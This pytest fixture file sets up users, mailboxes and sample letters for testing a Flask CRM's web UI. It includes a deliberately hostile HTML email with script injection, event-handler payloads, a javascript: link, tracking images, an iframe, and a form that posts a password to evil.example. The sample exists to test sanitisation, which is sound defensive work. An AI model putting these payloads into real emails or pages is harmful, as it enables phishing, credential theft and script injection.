"""Fixtures for the web UI: an app on the test database (both backends), people, a client.

CSRF protection stays on in every web test, as in production (see letterpress.testing.web).
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import Engine
from sqlalchemy.orm import Session

from letterpress.config import Settings, WebSettings
from letterpress.crm.model import User
from letterpress.testing import factories
from letterpress.web.app import create_app


@pytest.fixture
def web_settings(tmp_path: Path) -> Settings:
    return Settings(
        data_dir=tmp_path / "data",
        web=WebSettings(page_size=5, login_attempts_per_minute=3),
    )


@pytest.fixture
def app(web_settings: Settings, engine: Engine) -> Iterator[Flask]:
    app = create_app(web_settings, engine=engine)
    app.config["TESTING"] = True
    yield app


@pytest.fixture
def client(app: Flask) -> FlaskClient:
    return app.test_client()


@dataclass
class People:
    manager: User
    other: User
    head: User
    admin: User
    inactive: User


@pytest.fixture
def people(session: Session) -> People:
    head = factories.make_user(session, "head", role="head", name="Ольга Руководитель")
    found = People(
        manager=factories.make_user(session, "manager1", name="Иван Петров", supervisor=head),
        other=factories.make_user(session, "manager2", name="Пётр Сидоров", supervisor=head),
        head=head,
        admin=factories.make_user(session, "admin", role="admin", name="Админ"),
        inactive=factories.make_user(session, "gone", name="Уволенный", active=False),
    )
    session.commit()
    return found


# --- mail --------------------------------------------------------------------------------------

HOSTILE_HTML = (
    "<html><head><title>Заголовок письма</title>"
    "<style>body { background: url(https://evil.example/style-bg.png) }</style>"
    "<script>document.title = 'PWNED'; window.name = 'PWNED'; alert('script')</script></head>"
    "<body onload=\"alert('onload')\"><p style=\"color: #c00; "
    "background-image: url(https://evil.example/inline-bg.png)\">"
    "Добрый день! Макет во вложении.</p>"
    "<img src=\"https://evil.example/pixel.png\" alt=\"pixel\">"
    "<img src=\"x\" onerror=\"document.title = 'PWNED'; alert('onerror')\">"
    "<img src=\"cid:logo@romashka\" alt=\"logo\">"
    "<a href=\"javascript:alert('link')\">Открыть макет</a> "
    "<a href=\"https://romashka.ru/catalog\">Каталог</a>"
    "<form action=\"https://evil.example/steal\"><input name=\"password\"></form>"
    "<iframe src=\"https://evil.example/frame\"></iframe>"
    "</body></html>"
)
PNG_1PX = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c63f8cf"
    "c0f01f0005000201a5f1a1b10000000049454e44ae426082"
)
INVOICE_NAME = "Счёт №5 от 03.03.2025.pdf"


@dataclass
class MailWorld:
    """Letters in three mailboxes: manager1's own, manager2's own, and a shared one granted to
    manager1; letters filed to ООО Ромашка, unfiled ones, an ambiguous one, an unparsable one."""

    romashka: int
    m1_box: int
    m2_box: int
    sales_box: int
    hostile: int  # manager1's HTML letter from Ромашка with attachments
    reply: int  # manager1's reply in the same thread
    shared: int  # in the shared box, from Ромашка
    secret: int  # manager2's personal letter from Ромашка
    unfiled: int  # from newprint.ru, a company domain nobody claims
    unfiled_gmail: int
    ambiguous: int  # from holding.ru, claimed by two counterparties
    broken: int  # cannot be parsed
    raws: dict[str, bytes]
    invoice: int  # the attachment id
    invoice_bytes: bytes


@pytest.fixture
def mail_world(session: Session, people: People) -> MailWorld:
    from sqlalchemy import select

    from letterpress.crm.model import Attachment, Letter
    from letterpress.testing import letters, mailstore

    f = factories
    romashka = f.make_counterparty(session, "ООО Ромашка", manager=people.manager,
                                   domains=["romashka.ru"], city="Москва")
    f.make_counterparty(session, "Холдинг Север", domains=["holding.ru"])
    f.make_counterparty(session, "Холдинг Юг", domains=["holding.ru"])
    anna = ("Анна Смирнова", "anna@romashka.ru")
    me = ("Иван Петров", "ivan@letterpress.test")
    invoice = letters.invoice_pdf("5", "125 000,00")
    raws = {
        "hostile": letters.letter(
            message_id="hostile@romashka.ru", subject="Макет обложки", sender=anna, to=[me],
            body="Добрый день! Макет во вложении.", html=HOSTILE_HTML,
            date=dt.datetime(2025, 3, 3, 10, 0, tzinfo=dt.UTC),
            attachments=[letters.Attachment(INVOICE_NAME, "application/pdf", invoice),
                         letters.Attachment("logo.png", "image/png", PNG_1PX, inline=True,
                                            content_id="logo@romashka")]),
        "reply": letters.reply("hostile@romashka.ru", message_id="reply@letterpress.test",
                               subject="Re: Макет обложки", sender=me, to=[anna],
                               body="Спасибо, получили макет.",
                               date=dt.datetime(2025, 3, 4, 9, 0, tzinfo=dt.UTC)),
        "shared": letters.letter(message_id="shared@romashka.ru", subject="Заявка на тираж",
                                 sender=anna, to=[("Отдел продаж", "sales@letterpress.test")],
                                 body="Просим рассчитать тираж 5000 экз.",
                                 date=dt.datetime(2025, 2, 1, 8, 0, tzinfo=dt.UTC)),
        "secret": letters.letter(message_id="secret@romashka.ru",
                                 subject="Секретное предложение для Петра",
                                 sender=("Борис", "boris@romashka.ru"),
                                 to=[("Пётр Сидоров", "petr@letterpress.test")],
                                 body="Конфиденциальные условия скидки.",
                                 date=dt.datetime(2025, 3, 5, 8, 0, tzinfo=dt.UTC)),
        "unfiled": letters.letter(message_id="new@newprint.ru", subject="Знакомство: НьюПринт",
                                  sender=("Ольга Новикова", "olga@newprint.ru"),
                                  body="Предлагаем сотрудничество.",
                                  date=dt.datetime(2025, 3, 6, 8, 0, tzinfo=dt.UTC)),
        "unfiled_gmail": letters.letter(message_id="private@gmail.com", subject="Визитки",
                                        sender=("Семён Частников", "semen@gmail.com"),
                                        body="Нужны визитки, 100 штук.",
                                        date=dt.datetime(2025, 3, 7, 8, 0, tzinfo=dt.UTC)),
        "ambiguous": letters.letter(message_id="amb@holding.ru", subject="Запрос от холдинга",
                                    sender=("Кто-то", "buyer@holding.ru"),
                                    date=dt.datetime(2025, 3, 8, 8, 0, tzinfo=dt.UTC)),
        "broken": b"\x00\x01 this is not a letter at all",
    }
    m1 = mailstore.mailbox(session, "m1-box", owner="manager1", folders=("INBOX", "Sent"),
                           sent_folders=("Sent",))
    m2 = mailstore.mailbox(session, "m2-box", owner="manager2")
    sales = mailstore.mailbox(session, "sales", grants=[("user:manager1", "read")])
    mailstore.deliver(session, m1, [raws[k] for k in ("hostile", "unfiled", "unfiled_gmail",
                                                        "ambiguous", "broken")])
    mailstore.deliver(session, m1, [raws["reply"]], folder="Sent")
    mailstore.deliver(session, m2, [raws["secret"]])
    mailstore.deliver(session, sales, [raws["shared"]])
    session.commit()
    ids = {mid: lid for mid, lid in session.execute(select(Letter.message_id, Letter.id)).all()}
    broken = session.scalar(select(Letter.id).where(Letter.parse_error.is_not(None)))
    attachment = session.scalar(select(Attachment.id).where(Attachment.filename == INVOICE_NAME))
    assert broken is not None and attachment is not None
    return MailWorld(
        romashka=romashka.id, m1_box=m1.id, m2_box=m2.id, sales_box=sales.id,
        hostile=ids["hostile@romashka.ru"], reply=ids["reply@letterpress.test"],
        shared=ids["shared@romashka.ru"], secret=ids["secret@romashka.ru"],
        unfiled=ids["new@newprint.ru"], unfiled_gmail=ids["private@gmail.com"],
        ambiguous=ids["amb@holding.ru"], broken=broken, raws=raws, invoice=attachment,
        invoice_bytes=invoice,
    )
